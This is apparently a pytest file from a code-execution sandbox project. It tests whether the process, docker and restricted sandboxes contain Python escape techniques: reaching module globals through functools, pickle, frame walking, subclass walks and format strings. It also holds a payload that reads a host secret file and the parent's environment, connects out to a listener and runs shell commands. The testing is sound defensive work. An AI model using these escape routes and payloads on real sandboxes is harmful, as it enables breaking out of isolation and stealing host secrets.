"""Escapes by attribute access the policy never sees written, and by globals and frames.

Each attack first gets hold of some module's real globals (or the real `os`) by one route,
then tries what an escape is for: read a host file and the host's environment, connect to
a host listener, run a command that would show root or write a host file. On `process`
and `docker` the first half works (plain Python may read `__globals__`) and the operating
system must contain the second; on `restricted` the first half must already be refused,
so nothing after it runs (the `ESCAPED` line never prints).
"""

from __future__ import annotations

import pytest

from sandbox import Cell, Sandbox

from . import test_escapes as corpus
from .test_escapes import MARKER, REFUSALS, Host

pytestmark = pytest.mark.asyncio(loop_scope="module")

# the escape corpus's fixtures: the host (secret file, environment marker, listener, victim) and sandboxes
victim, host, escape_sandbox = corpus.victim, corpus.host, corpus.escape_sandbox

# Given `g`, the real globals of some module (whose `__builtins__` is a dict or the module).
PAYLOAD = """
b = g['__builtins__']
if not isinstance(b, dict):
    b = vars(b)
osm = b['__import__']('os')
print('ESCAPED')
try:
    print('file', b['open']({secret!r}).read())
except Exception as exc:
    print('file blocked', repr(exc)[:80])
try:
    print('env', osm.environ.get('CODETOOL_ESCAPE_SECRET'), b['open']('/proc/%d/environ' % osm.getppid(), 'rb').read())
except Exception as exc:
    print('env blocked', repr(exc)[:80])
try:
    sock = b['__import__']('socket')
    for ip in {ips!r}:
        s = sock.create_connection((ip, {port}), timeout=1)
        s.sendall(b'leaked')
        print('connected', ip)
except Exception as exc:
    print('socket blocked', repr(exc)[:80])
try:
    print('id', osm.popen('id; cat {secret}').read())
except Exception as exc:
    print('popen blocked', repr(exc)[:80])
try:
    osm.system('id > {drop}; cat {secret} >> {drop}')
except Exception as exc:
    print('system blocked', repr(exc)[:80])
"""

# the route to a frame of the code, walked back to the runner's (a module with real builtins)
WALK_BACK = (
    "while fr is not None and fr.f_globals.get('__name__') in ('__sandbox__', '__main__'):\n"
    "    fr = fr.f_back\n"
    "g = fr.f_globals\n"
)

STRING_DRIVEN = {
    "update_wrapper merges a module's globals into the code's": (
        "import functools, statistics\n"
        "def sink():\n    pass\n"
        "functools.update_wrapper(sink, statistics.mean, assigned=(), updated=('__globals__',))\n"
        "def later():\n    return globals()\n"
        "g = later()\n"
    ),
    "wraps merges a module's globals into the code's": (
        "import functools, json\n"
        "@functools.wraps(json.dumps, assigned=(), updated=('__globals__',))\n"
        "def sink():\n    pass\n"
        "def later():\n    return globals()\n"
        "g = later()\n"
    ),
    "update_wrapper copies __globals__ onto a holder": (
        "import functools, statistics\n"
        "holder = functools.partial(print)\n"
        "functools.update_wrapper(holder, statistics.mean, assigned=('__globals__',), updated=())\n"
        "g = vars(holder)['__globals__']\n"
    ),
    "reduce with getattr": "import functools, statistics\ng = functools.reduce(getattr, ['__globals__'], statistics.mean)\n",
    "getattr with a computed name": "import statistics\ng = getattr(statistics.median, '__glo' + 'bals__')\n",
    "map of getattr": "import statistics\n[g] = list(map(getattr, [statistics.mode], ['__globals__']))\n",
    "operator.attrgetter": "import operator, statistics\ng = operator.attrgetter('__globals__')(statistics.mean)\n",
    "operator.methodcaller": "import operator, json\ng = operator.methodcaller('__getattribute__', '__globals__')(json.loads)\n",
    "vars of a module": "import json\ng = vars(json)\n",
    "inspect.getmembers": "import inspect, json\ng = dict(inspect.getmembers(json.loads))['__globals__']\n",
    "copy calls a __reduce_ex__ result": (
        "import copy, json\n"
        "class Trick:\n"
        "    def __reduce_ex__(self, protocol):\n"
        "        return (getattr, (json.loads, '__globals__'))\n"
        "g = copy.copy(Trick())\n"
    ),
    "pickle calls a __reduce__ result": (
        "import pickle, json\n"
        "class Trick:\n"
        "    def __reduce__(self):\n"
        "        return (getattr, (json.loads, '__globals__'))\n"
        "g = pickle.loads(pickle.dumps(Trick()))\n"
    ),
    "singledispatch evaluates a string annotation": (
        "import functools, statistics\n"
        "found = {}\n"
        "@functools.singledispatch\n"
        "def f(x):\n    pass\n"
        "def g_(x: 'found.update(statistics.mean.__globals__) or int'):\n    pass\n"
        "try:\n    f.register(g_)\nexcept Exception:\n    pass\n"
        "g = found\n"
    ),
    "string.Formatter field access": (
        "import string, json\ng = string.Formatter().get_field('0.__globals__', [json.loads], {})[0]\n"
    ),
}

GLOBALS_AND_FRAMES = {
    "generator frame while running": (
        "def walker():\n    yield me.gi_frame.f_back\nme = walker()\nfr = next(me)\n" + WALK_BACK
    ),
    "generator frame by a computed name": (
        "def walker():\n    yield getattr(me, 'gi_' + 'frame').f_back\nme = walker()\nfr = next(me)\n" + WALK_BACK
    ),
    "traceback frame of the code": (
        "try:\n    1 / 0\nexcept Exception as exc:\n    fr = exc.__traceback__.tb_frame\n" + WALK_BACK
    ),
    "traceback of a library error": (
        "import json\n"
        "try:\n    json.loads('{')\nexcept Exception as exc:\n    tb = getattr(exc, '__traceback__')\n"
        "while tb.tb_next is not None:\n    tb = tb.tb_next\n"
        "g = tb.tb_frame.f_globals\n"
    ),
    "frame of a library generator": (
        "import json\nit = json.JSONEncoder().iterencode({'a': [1]})\nnext(it)\ng = it.gi_frame.f_globals\n"
    ),
    "function __globals__": "import statistics\ng = statistics.mean.__globals__\n",
    "__reduce_ex__ hands out copyreg": (
        "import statistics\nparts = statistics.NormalDist(0, 1).__reduce_ex__(2)\ng = parts[0].__globals__\n"
    ),
    "__reduce_ex__ by getattr": (
        "import statistics\nparts = getattr(statistics.NormalDist(0, 1), '__reduce_ex__')(2)\n"
        "g = getattr(parts[0], '__globals__')\n"
    ),
    "subclasses walk": (
        "for cls in ().__class__.__base__.__subclasses__():\n"
        "    init = getattr(cls, '__init__', None)\n"
        "    if '__globals__' in dir(init) and 'sys' in init.__globals__:\n"
        "        g = init.__globals__\n"
        "        break\n"
    ),
    "metaclass builds a class with any dunder": (
        "store = {}\n"
        "def grab(self, name, value):\n    store[name] = value\n"
        "Meta = type(type(1))\n"
        "Holder = Meta('Holder', (), {'__setattr__': grab})\n"
        "import functools, json\n"
        "functools.update_wrapper(Holder(), json.loads, assigned=('__globals__',), updated=())\n"
        "g = store['__globals__']\n"
    ),
}

# A format string reaches attributes from the string: the environment is what it can print.
FORMAT_STRINGS = {
    "str.format": "import statistics\nprint('{0.__globals__[sys].modules[os].environ}'.format(statistics.mean))\n",
    "str.format unbound": "import statistics\nprint(str.format('{0.__globals__[sys].modules[os].environ}', statistics.mean))\n",
    "format_map": "import statistics\nprint('{f.__globals__[sys].modules[os].environ}'.format_map({'f': statistics.mean}))\n",
    "format by getattr": (
        "import statistics\nprint(getattr('{0.__globals__[sys].modules[os].environ}', 'for' + 'mat')(statistics.mean))\n"
    ),
    "UserString.format": (
        "import collections, statistics\n"
        "print(collections.UserString('{0.__globals__[sys].modules[os].environ}').format(statistics.mean))\n"
    ),
    "string.Formatter": (
        "import string, statistics\n"
        "print(string.Formatter().format('{0.__globals__[sys].modules[os].environ}', statistics.mean))\n"
    ),
    "logging formatter": (
        "import logging, statistics\n"
        "record = logging.makeLogRecord({'fn': statistics.mean})\n"
        "print(logging.Formatter('{fn.__globals__[sys].modules[os].environ}', style='{').format(record))\n"
    ),
    "format spec is no field": "import statistics\nprint(format(statistics.mean, '{0.__globals__}'))\n",
}


async def _attack(sandbox: Sandbox, host: Host, code: str) -> None:
    result = await sandbox.execute(Cell(code=host.format(code)))
    await corpus._assert_contained(sandbox, host, result)
    assert "uid=0(" not in corpus._everything(result), "a command ran as root"
    if sandbox.name == "restricted":
        assert not result.ok
        assert result.error_type in REFUSALS, result.error
        assert "ESCAPED" not in result.stdout and "environ(" not in result.stdout


@pytest.mark.parametrize("route", sorted(STRING_DRIVEN))
async def test_string_driven_attribute_access_is_contained(escape_sandbox: Sandbox, host: Host, route: str) -> None:
    await _attack(escape_sandbox, host, STRING_DRIVEN[route].replace("{", "{{").replace("}", "}}") + PAYLOAD)


@pytest.mark.parametrize("route", sorted(GLOBALS_AND_FRAMES))
async def test_globals_and_frames_are_contained(escape_sandbox: Sandbox, host: Host, route: str) -> None:
    await _attack(escape_sandbox, host, GLOBALS_AND_FRAMES[route].replace("{", "{{").replace("}", "}}") + PAYLOAD)


@pytest.mark.parametrize("route", sorted(FORMAT_STRINGS))
async def test_format_strings_are_contained(escape_sandbox: Sandbox, host: Host, route: str) -> None:
    result = await escape_sandbox.execute(Cell(code=FORMAT_STRINGS[route]))
    await corpus._assert_contained(escape_sandbox, host, result)
    assert MARKER not in corpus._everything(result)
    if escape_sandbox.name == "restricted":
        assert not result.ok
        assert result.error_type in REFUSALS, result.error
        assert result.stdout == ""
